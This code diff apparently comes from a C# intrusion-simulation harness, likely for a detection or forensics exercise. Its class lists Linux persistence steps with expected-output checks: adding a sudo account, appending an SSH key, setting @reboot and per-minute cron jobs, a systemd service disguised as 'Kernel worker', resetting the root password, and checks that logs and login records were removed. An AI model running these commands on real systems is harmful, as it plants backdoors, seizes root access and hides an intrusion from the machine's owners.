@@ -62,7 +62,7 @@ public static class IntrusionPlan
     [
         new("an account", $"useradd -m -s /bin/bash -G sudo {Account}; echo '{Account}:{AccountPassword}' | chpasswd; id -nG {Account}", $"^{Account} sudo$"),
         new("his key", $"mkdir -p ~/.ssh; chmod 700 ~/.ssh; echo '{key}' >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys; tail -n 1 ~/.ssh/authorized_keys | cut -d' ' -f1", "^ssh-ed25519$", Changes: true),
-        new("a job", $"(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/{Worker}') | crontab -; crontab -l | tail -n 1", $@"^\*/5 \* \* \* \* /tmp/{Worker}$"),
+        new("two jobs", $"(crontab -l 2>/dev/null; echo '* * * * * date +\\%s >> /tmp/.{Worker}'; echo '@reboot /tmp/{Worker}') | crontab -; crontab -l | tail -n 1", $"^@reboot /tmp/{Worker}$"),
         new("a service", $"cat > /etc/systemd/system/{Worker}.service <<EOF; systemctl daemon-reload; systemctl enable --now {Worker} 2>/dev/null; systemctl is-active {Worker}; systemctl is-enabled {Worker}\n[Unit]\nDescription=Kernel worker\n[Service]\nExecStart=/tmp/{Worker}\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF", "^active\nenabled$"),
         new("a page", $"echo '{PageText}' > /var/www/html/{Page}; curl -s http://127.0.0.1/{Page}", $"^{PageText}$"),
         new("a password that only he knows", $"echo 'root:{password}' | chpasswd; echo $?", "^0$", Changes: true),
@@ -93,7 +93,8 @@ public static class IntrusionPlan
         new("his file", $"head -n 1 /tmp/{Worker}; stat -c %A /tmp/{Worker}; cat /tmp/.cfg | head -n 1", "^#!/bin/bash\n-rwxr-xr-x\n\\[pool\\]$"),
         new("his process", $"pgrep -f {Worker} | wc -l; systemctl is-active {Worker}", "^2\nactive$"),
         new("his account", $"id -nG {Account}; getent passwd {Account} | cut -d: -f6,7", $"^{Account} sudo\n/home/{Account}:/bin/bash$"),
-        new("his job", "crontab -l | tail -n 1", $@"^\*/5 \* \* \* \* /tmp/{Worker}$"),
+        new("his jobs", "crontab -l | tail -n 1", $"^@reboot /tmp/{Worker}$"),
+        new("a job that runs each minute", $"n=0; until [ -s /tmp/.{Worker} ] || [ $n = 75 ]; do n=$((n+1)); sleep 1; done; head -n 1 /tmp/.{Worker}", "^1[0-9]{9}$"),
         new("his page", $"cat /var/www/html/{Page}", $"^{PageText}$"),
         new("the log that he removed, which has begun anew or is gone", "grep -c 'useradd' /var/log/auth.log 2>/dev/null", "^0?$"),
         new("his last login, which he removed with the log", $"last -n 5 2>/dev/null | grep -c {before}", "^0$"),
